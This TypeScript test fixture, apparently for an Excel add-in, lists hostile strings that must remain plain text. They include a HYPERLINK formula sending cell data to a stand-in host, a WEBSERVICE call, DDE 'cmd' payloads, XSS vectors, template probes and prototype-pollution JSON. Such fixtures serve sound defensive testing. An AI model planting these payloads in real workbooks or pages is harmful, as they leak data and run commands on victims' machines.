/**
 * Text that a stranger's workbook may hold and that must stay text: never a formula, never markup, never a key of an
 * object, whatever way it comes in or goes out. `hit` is what a page would run that made something else of it.
 */
export const hostile = {
  formula: '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")',
  command: "+cmd|' /C calc'!A0",
  sum: "-1+1",
  at: "@SUM(A1:A9)",
  image: "<img src=x onerror=\"window.hit=1\">",
  script: "<script>window.hit=1</script>",
  vector: "<svg/onload=window.hit=1>",
  entity: "\"&quot;&#39;&amp;",
  cdata: "]]><x/>",
  prototype: "__proto__",
  constructorName: "constructor",
  method: "toString",
  template: "{{7*7}}${7*7}<%=7*7%>",
  address: "javascript:window.hit=1",
  turned: "\u202Eelocitnev\u202C",
  lines: "eerste\nregel\r\n\ttweede",
  apostrophe: "'",
  quotes: "'\"'\"'",
  number: "0012",
  date: "1-2",
  percentage: "12%",
  truth: "TRUE",
  error: "#N/A!",
  separators: "a;b,c|d\\e[f]#g@h",
  long: "lang ".repeat(1000).trim(),
} as const;

/** What XML cannot hold: only by the API into a workbook. */
export const unwritable = { nothing: "a\u0000b", half: "x\uD800y" } as const;

export const everyText: readonly (readonly [name: string, text: string])[] = [...Object.entries(hostile), ...Object.entries(unwritable)];

/** As the name of a sheet, where Excel allows it: 31 characters, none of \ / ? * [ ] :, no apostrophe at either end. */
export const sheetNames: readonly string[] = [
  "<img src=x onerror=hit=1>", "=1+1", "@SUM(A1)", "-1", "it's \"x\" & y", "__proto__", "constructor", "{{7+7}}", "\u202Edalb", "a;b,c|d#e!f",
];

/** As the name of a table: letters, digits, points and underscores only. */
export const tableNames: readonly string[] = ["__proto__", "constructor", "toString", "hasOwnProperty", "_xlnm.Print_Area", "ÇédilleΩ"];

/** What a setting may hold that was not kept by the add-in. */
export const settings: readonly unknown[] = [
  ...everyText.map(([, text]) => text), 0, -1, true, null, [], {}, [null], [[]], { version: 1 }, { version: 1, ranges: "x" },
  { version: 1, ranges: [null, 1, {}, { sheet: hostile.image, sheetId: hostile.script, place: { row: -1, column: 1e9, columns: 2, headerRows: 1 }, names: ["a", "b"], use: { kind: "__proto__", columns: {} } }] },
  JSON.parse('{"version":1,"ranges":[],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  [JSON.parse('{"__proto__":{"polluted":1},"sheet":"Blad1","row":0,"column":0,"rows":1,"columns":1,"formula":"=RUIMTE.VERDEEL(1,2)","print":1}')],
  [{ sheet: "Blad1", row: 0, column: 0, rows: 1_048_576, columns: 16_384, formula: '=RUIMTE.VERDEEL(1,2)&WEBSERVICE("http://kwaad.example")', print: 0 }],
  [{ sheet: "Blad1", row: 0, column: 0, rows: 1, columns: 1, formula: "=cmd|' /C calc'!A0", print: 0 }],
];
